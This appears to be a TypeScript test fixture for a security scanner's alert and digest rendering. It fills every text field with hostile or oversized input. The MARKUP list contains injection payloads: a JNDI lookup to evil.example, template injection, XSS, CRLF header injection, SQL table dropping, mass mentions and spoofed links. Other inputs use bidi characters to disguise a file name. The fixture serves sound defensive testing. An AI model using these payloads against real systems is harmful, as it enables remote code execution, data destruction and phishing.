import { type Digest, DIGEST_TOP } from '../../src/core/digest.ts'
import type { EventName, EventPayload, FindingView } from '../../src/core/event.ts'
import { sampleDigest, sampleEvents } from '../../src/core/sample.ts'

/** The event with `text` wherever a scanner or a person could have put a text. */
const filledWith = (event: EventPayload, text: string): EventPayload => ({
  ...event,
  target: { ...event.target, name: text, base_url: text },
  scan: event.scan && { ...event.scan, profile: text, grade: text },
  ...(event.error !== undefined && { error: text }),
  ...(event.change_summary !== undefined && { change_summary: text }),
  ...(event.finding && {
    finding: {
      ...event.finding,
      title: text,
      category: text,
      owasp_category: text,
      cvss_vector: text,
      endpoint: text,
      parameter: text,
      description: text,
      remediation: text,
      references: Array.from(
        { length: 100 },
        (_, index) => `https://acme.example/${index}?${encodeURIComponent(text.toWellFormed().slice(0, 600))}`,
      ),
      evidence: text,
      rule_id: text,
      location: { path: text || 'x', start_line: 2_147_483_647 },
    },
  }),
})

const emptied = (finding: FindingView): FindingView => ({
  ...finding,
  title: '',
  category: null,
  owasp_category: null,
  cwe_id: null,
  cvss_score: null,
  cvss_vector: null,
  endpoint: null,
  parameter: null,
  description: null,
  remediation: null,
  references: [],
  evidence: null,
  rule_id: null,
  location: null,
})

const withNulls = (event: EventPayload): EventPayload => ({
  ...event,
  target: { ...event.target, base_url: null },
  scan: null,
  ...(event.finding && { finding: emptied(event.finding) }),
})

/** Mentions, links, images and markup of every vendor, and of none. */
export const MARKUP = [
  '<!channel> <!here|here> <!everyone> <@U0123ABCD> <#C0123ABCD> <!subteam^S0123|team> <https://evil.example|bank.example>',
  '@everyone @here <@!123456789012345678> <@&1> [bank.example](https://evil.example) ||spoiler|| ![x](https://evil.example/x.png)',
  '<users/all> <users/123> <a href="https://evil.example">bank.example</a> <img src=x onerror=alert(1)> <at>Someone</at>',
  '@org/team #1 fixes #1 GH-1 <details> `code` ``` fence ~~~ ',
  '[~accountid:5b10ac8d82e05b22cc7d4ef5] {html}<b>x</b>{html} {code} !x.png! [bank|https://evil.example] h1. x {color:red}x{color}',
  '*bold* _italic_ ~struck~ ~~struck~~ __under__ > quote\n> quote\n- list\n1. list\n# head\n| a | b |\n|---|---|\n:skull: &lt;!channel&gt; &amp; "quoted" \\back\\',
  "${jndi:ldap://evil.example/x} {{constructor.constructor('x')()}} <%= 1 %> %0d%0aX-Injected: 1 '; drop table findings; --",
].join('\n')

const TEXTS: Record<string, string> = {
  'markup of all vendors': MARKUP,
  '9,000 emoji': '👩‍👩‍👧‍👦'.repeat(9_000),
  'empty texts': '',
  'blank texts': ' \n\t\u200b ',
  'lone surrogates': 'a\ud800b\udc00\ud83dc'.repeat(50),
  '100 KB fields': 'Lorem ipsum dolor sit amet. '.repeat(3_600),
  '100 KB of what has to be escaped': '"\\<>&\n\'`*_~|@#[](){}'.repeat(5_000),
  '100 KB of one word': 'x'.repeat(100_000),
  'bidi and control characters': 'user\u202Egpj.exe\u2066\u2069\0\x07\x1b[31m\u{E0041}\r\nX-Injected: 1',
  '3,000 marks on one letter': `a${'\u0301'.repeat(3_000)}`,
}

/** What a hostile or careless scanner could make of this event, by what is wrong with it. */
export const hostileEvents = (name: EventName): [label: string, event: EventPayload][] => [
  ...Object.entries(TEXTS).map(([label, text]): [string, EventPayload] => [
    label,
    filledWith(sampleEvents[name], text),
  ]),
  ['nulls everywhere', withNulls(sampleEvents[name])],
]

/** The same of a digest, with as many findings listed as there may be. */
export const hostileDigests = (): [label: string, digest: Digest][] =>
  hostileEvents('finding_new').map(([label, event]) => [
    label,
    {
      ...sampleDigest,
      target: event.target,
      scan: event.scan ?? sampleDigest.scan,
      counts: { critical: 2_000_000, high: 2_000_000, medium: 2_000_000, low: 2_000_000, info: 2_000_000 },
      fresh: 9_000_000,
      changed: 1_000_000,
      individually: 100_000,
      top: Array.from({ length: DIGEST_TOP }, () => event),
    },
  ])
